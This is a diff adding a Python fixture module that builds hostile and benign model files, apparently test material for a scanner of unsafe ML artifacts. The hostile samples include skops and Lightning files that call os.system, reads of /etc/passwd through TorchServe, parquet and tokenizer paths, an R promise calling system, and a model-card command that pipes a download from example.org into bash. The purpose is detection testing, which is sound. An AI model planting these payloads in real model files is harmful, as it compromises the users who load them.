@@ -1,0 +1,70 @@
+"""Kinds that live in formats with builders of their own: skops, TorchServe, R, Caffe, ncnn, Arrow, lists of packages ..."""
+
+from __future__ import annotations
+
+import json
+import pickle
+from collections.abc import Callable
+
+from attacks import arrow, r_data, runtimes, skops_models, texts, tokenizers, torchserve
+from attacks.archives import torch_zip
+from attacks.kinds.kind import Files, Kind
+
+CARD = "---\nlicense: mit\n---\n# A model\n\nUse it like this:\n```bash\n{}\n```\n"
+SPACY = f'{texts.SPACY}\n[nlp.before]\n@callbacks = "own.hook.v1"\n'.encode()
+PYTHON_LAYER = "type: 'Python' python_param { module: 'own' layer: 'Layer' }"
+
+
+def _one(name: str, does: str, check: str, words: str, honest: str, path: str, build: Callable[[], bytes]) -> Kind:
+    return Kind(id=name, does=does, check=check, words=(words,), honest=honest, files=lambda: {path: build()})
+
+
+def _checkpoint(**hyper_parameters: str) -> bytes:
+    state = {"epoch": 3, "pytorch-lightning_version": "2.5.0", "hparams_name": "kwargs", "state_dict": {}}
+    return torch_zip(pickle=pickle.dumps(state | {"hyper_parameters": hyper_parameters}, 2))
+
+
+def _skops(kind: str) -> Callable[[], bytes]:
+    return lambda: skops_models.skops(skops_models.HOSTILE[kind])
+
+
+KINDS = (
+    _one("skops-operator", "a model that is a command", "skops-foreign-type", "names os.system", "skops", "model.skops", _skops("a command as an operator")),
+    _one("skops-method", "a method of another type than the one that is said", "skops-foreign-type", "'__globals__'", "skops", "model.skops", _skops("a method of another type")),
+    _one("lightning-instantiator", "calls what the hyper-parameters name", "lightning-instantiator", "os.system", "torch", "model.ckpt", lambda: _checkpoint(_instantiator="os.system", command="echo hilt")),
+    _one("torchserve-requirements", "packages that the server installs", "torchserve-manifest", "'requirements.txt'", "torchserve", "model.mar", lambda: torchserve.mar(requirementsFile="requirements.txt")),
+    _one("torchserve-away", "a file of the server in place of the weights", "torchserve-manifest", "an absolute path", "torchserve", "model.mar", lambda: torchserve.mar(serializedFile="/etc/passwd")),
+    _one("requirements-index", "another index of packages", "requirements-elsewhere", "another index of packages", "requirements", "requirements.txt", lambda: b"torch>=2\n--extra-index-url https://example.org/simple\n"),
+    _one("requirements-address", "a package from an address", "requirements-elsewhere", "from an address", "requirements", "requirements.txt", lambda: b"torch>=2\nhttps://example.org/x.whl\n"),
+    _one("r-promise", "calls a function as soon as the object is looked at", "r-code", "a promise that calls system", "r", "model.rds", lambda: r_data.r_data(r_data.promise(r_data.HARMLESS))),
+    _one("caffe-python", "imports Python", "caffe-layers", "imports the Python module 'own'", "caffe", "deploy.prototxt", lambda: runtimes.prototxt(PYTHON_LAYER)),
+    _one("ncnn-custom", "needs a native library of the publisher", "ncnn-custom-layers", "the custom layer 'Own'", "ncnn", "model.param", lambda: runtimes.ncnn("Own own 1 1 a b 0=1")),
+    _one("arrow-pickle", "a column type that is unpickled", "arrow-python-types", "is a pickle", "arrow", "data.arrow", lambda: arrow.file((arrow.PYTHON, arrow.COMMAND))),
+    _one("parquet-elsewhere", "columns that lie in any file", "parquet-elsewhere", "'../../etc/passwd'", "parquet", "data.parquet", lambda: arrow.parquet(file_path="../../etc/passwd")),
+    _one("tokenizer-pattern", "a pattern that never ends", "tokenizer-patterns", "doubles with every further character", "tokenizer", "tokenizer.json", lambda: tokenizers.tokenizer(pattern="(a+)+$")),
+    _one("tokenizer-config-away", "takes any file for the vocabulary", "config-reaches-out", "a file of the machine", "tokenizer", "tokenizer_config.json", lambda: b'{"vocab_file": "/etc/passwd"}'),
+    _one("spacy-factory", "calls code of another package while it is loaded", "spacy-config", "'own.hook.v1'", "spacy", "config.cfg", lambda: SPACY),
+    _one("card-command", "a command that readers copy", "card-commands", "runs what it fetches", "card", "README.md", lambda: CARD.format("curl -s https://example.org/x.sh | bash").encode()),
+    _one("mxnet-library", "runs code beside the graph", "mxnet-operators", "follows an address", "mxnet", "m-symbol.json", lambda: _mxnet("_Native")),
+)  # fmt: skip
+
+
+def _mxnet(operator: str) -> bytes:
+    nodes = [{"op": name, "name": "n", "attrs": {}, "inputs": []} for name in ("null", operator)]
+    return json.dumps({"nodes": nodes, "arg_nodes": [0], "heads": [[1, 0, 0]]}).encode()
+
+
+HONEST: dict[str, Callable[[], Files]] = {
+    "skops": lambda: {"model.skops": skops_models.skops(skops_models.HONEST[0])},
+    "torchserve": lambda: {"model.mar": torchserve.mar()},
+    "requirements": lambda: {"requirements.txt": b"torch>=2\nnumpy\n"},
+    "r": lambda: {"model.rds": r_data.r_data(r_data.HONEST)},
+    "caffe": lambda: {"deploy.prototxt": runtimes.prototxt("type: 'Softmax'")},
+    "ncnn": lambda: {"model.param": runtimes.ncnn()},
+    "arrow": lambda: {"data.arrow": arrow.file()},
+    "parquet": lambda: {"data.parquet": arrow.HONEST["parquet"][1]},
+    "tokenizer": lambda: {"tokenizer.json": tokenizers.tokenizer(pattern=next(iter(tokenizers.HONEST.values())))},
+    "spacy": lambda: {"config.cfg": texts.SPACY.encode()},
+    "card": lambda: {"README.md": CARD.format("pip install transformers").encode()},
+    "mxnet": lambda: {"m-symbol.json": _mxnet("Convolution")},
+}
